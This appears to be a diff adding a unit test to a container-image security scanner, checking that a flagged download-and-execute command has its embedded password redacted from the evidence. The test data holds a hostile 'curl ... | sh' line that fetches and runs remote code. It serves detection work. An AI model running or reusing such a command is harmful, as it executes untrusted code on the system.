@@ -129,3 +129,12 @@ def test_history_finding_names_its_layer() -> None:
     (hit,) = [h for h in notes.hits if h.rule_id == "image.config.download_exec"]
     assert hit.config_key == "history[2].created_by"
     assert hit.layer == 1  # the second non-empty history entry is layer 1
+
+
+def test_evidence_snippets_are_redacted() -> None:
+    notes = Notes("t")
+    cfg = {"config": {"Cmd": ["/bin/sh", "-c", "curl -u deploy:Sup3rS3cret http://h/x | sh"]}}
+    IND.scan_config(cfg, notes)
+    (hit,) = [h for h in notes.hits if h.rule_id == "image.config.download_exec"]
+    assert "Sup3rS3cret" not in " ".join(hit.evidence)
+    assert "<redacted sha256:" in " ".join(hit.evidence)
